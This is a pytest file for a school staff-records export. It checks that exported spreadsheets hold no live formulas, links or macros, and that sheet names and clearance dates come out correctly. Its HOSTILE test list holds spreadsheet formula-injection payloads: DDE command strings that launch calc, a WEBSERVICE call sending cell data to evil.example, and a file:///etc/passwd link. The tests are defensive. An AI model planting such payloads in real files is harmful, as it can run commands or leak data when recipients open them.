"""The spreadsheet: what it says, and that nothing in it can run."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from checks.models import Clearance, Incident
from checks.record_exports import reading, spreadsheet
from checks.record_exports.content import Content, Dated, Sheet, clean
from checks.record_exports.fingerprint import fingerprint
from hiring import clock
from tests.checks.record_exports.conftest import bytes_of, made

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "|cmd", "%0A=1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Amara")', '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("a","b")',
    '=DDE("cmd";"/C calc";"!A0")', "{=1+1}", "{=SUM(A1)}", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", '=1+1";=2+2',
    "http://evil.example", "mailto:a@b.example", "internal:Sheet1!A1", "external:x.xlsx", "file:///etc/passwd",
    "00123", "1e5", "1/2", "12 Mar 2026", "TRUE", "#REF!", "", " ", "_x0041_", "_x000D_=1+1", "<b>&amp;", "a\u202egnp.exe",
    "=1+1\x00", "\x1b[31m", "Łódź Ŵyn O’Brien", "محمد", "李小龍", "👩🏽‍🏫", "x" * 300,
]  # fmt: skip


def content_with(*texts):
    """One sheet with a hostile text in every place where a person types one."""
    rows = [[clean(text), clean(text), "Employee", dt.date(2024, 9, 1), ""] for text in texts]
    about = [("Record", "Record"), ("As at", "6 July 2026"), ("Made by", clean(texts[0])), ("Filter", clean(texts[0]))]
    return Content(
        about, [Sheet(clean(texts[0]) or "School", "A line", ["Name", "Post", "Kind", "Started", "Left"], rows)]
    )


@pytest.fixture(scope="module")
def hostile():
    content = content_with(*HOSTILE)
    return content, spreadsheet.written(content, fingerprint(content))


def test_nothing_in_it_is_a_formula_or_a_link(hostile, tally):
    _content, held = hostile
    book = openpyxl.load_workbook(io.BytesIO(held))
    cells = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    wrong = [cell.value for cell in cells if cell.data_type not in {"s", "d"} or cell.hyperlink]
    tally("hostile texts in a spreadsheet", len(HOSTILE), len(wrong))
    assert wrong == []
    with zipfile.ZipFile(io.BytesIO(held)) as parts:
        inside = {name: parts.read(name) for name in parts.namelist()}
    assert not [
        name for name in inside if "external" in name.lower() or "vba" in name.lower() or "calc" in name.lower()
    ]
    assert not [name for name, body in inside.items() if b"<f>" in body or b"<f " in body or b"<hyperlink " in body]


def test_every_text_stays_a_text_when_somebody_edits_the_cell(hostile):
    """Excel's mark for quoted text: pressing F2 and Enter on =1+1 leaves it a text."""
    book = openpyxl.load_workbook(io.BytesIO(hostile[1]))
    texts = [cell for page in book for row in page.iter_rows() for cell in row if cell.data_type == "s"]
    assert len(texts) > 2 * len(HOSTILE) - 10
    assert all(cell.quotePrefix and cell.number_format == "@" for cell in texts)


def test_every_text_comes_back_as_it_was_written(hostile):
    content, held = hostile
    read, stated, kind = reading.read(held)
    assert kind == "xlsx"
    assert stated == fingerprint(content) == fingerprint(read)
    assert read.sheets[0].rows == content.sheets[0].rows


def test_control_characters_are_shown_and_not_obeyed():
    assert clean("\t=1\r\x00\x1b\u202e") == "�=1����"


@pytest.mark.parametrize(
    ("name", "tab"),
    [
        ("St Mary's / St John's: C of E [Infant]?*", "St Mary's   St John's  C of E"),
        ("'Quoted'", "Quoted"),
        ("", "School"),
        ("History", "History 2"),
        ("A school with a name that is much too long", "A school with a name that is mu"),
    ],
)
def test_a_sheet_has_a_name_that_excel_allows(name, tab):
    assert spreadsheet.tab_for(name, set()) == tab


def test_two_schools_of_one_name_have_a_sheet_each():
    taken = set()
    tabs = [spreadsheet.tab_for("Holm Heath Primary and Nursery School", taken) for _ in range(12)]
    assert len({tab.casefold() for tab in tabs}) == 12
    assert all(len(tab) <= 31 for tab in tabs)


@pytest.mark.django_db
def test_a_copy_says_who_when_what_and_holds_a_sheet_for_each_school(on_record):
    export = made(on_record.hr_manager, on_record.other_school, on_record.school)
    book = openpyxl.load_workbook(io.BytesIO(bytes_of(export)))
    assert book.sheetnames == ["About this copy", "Kittiwake Academy", "Reydon Primary"]
    facts = dict(book["About this copy"].iter_rows(values_only=True))
    assert facts["Made by"] == "Dev Khatri"
    assert facts["Schools"] == "Kittiwake Academy, Reydon Primary"
    assert facts["People"] == "3"
    assert facts["Fingerprint"].replace("-", "") == export.fingerprint
    page = book["Reydon Primary"]
    assert page.freeze_panes == "B4"
    assert page["A2"].value.startswith("As at ")
    assert "Dev Khatri" in page["A2"].value
    assert "Dev Khatri" in page.oddFooter.left.text
    assert [page.cell(row, 1).value for row in (4, 5)] == ["Amara Okonjo-Bell", "Bethan Frost"]
    assert page["D4"].is_date
    assert page["D4"].value.date() == dt.date(2024, 9, 1)
    assert page["G4"].is_date
    assert page["G5"].value == "Missing"
    assert "old record" in page["G4"].number_format


@pytest.mark.django_db
@pytest.mark.parametrize("kind_of_file", ["xlsx", "pdf"])
def test_a_copy_says_who_began_without_clearance_however_clear_they_are_since(on_record, kind_of_file):
    """Never green: the day stands on every copy as it does on the page."""
    file = Clearance.objects.get(person__name="Amara Okonjo-Bell")
    Incident.record(
        by=on_record.hr,
        clearance=file,
        began_on=dt.date(2024, 8, 1),
        found_on=clock.today(),
        how_found="Looking through the record.",
        what_was_done="Each check is dated and seen.",
        who_was_told="The headteacher.",
    )
    content, _mark, _format = reading.read(bytes_of(made(on_record.hr, on_record.school, kind_of_file=kind_of_file)))
    [sheet] = content.sheets
    place = sheet.columns.index("Began without clearance")
    assert [row[place] for row in sheet.rows] == [dt.date(2024, 8, 1), ""]


def test_a_date_with_a_word_about_it_is_a_date_and_keeps_the_word():
    about = [("As at", "x"), ("Made by", "y")]
    content = Content(
        about, [Sheet("S", "L", ["Name", "Identity"], [["A", Dated(dt.date(2024, 8, 20), "by letter")]])]
    )
    read, _, _ = reading.read(spreadsheet.written(content, fingerprint(content)))
    assert read.sheets[0].rows == [["A", Dated(dt.date(2024, 8, 20), "by letter")]]
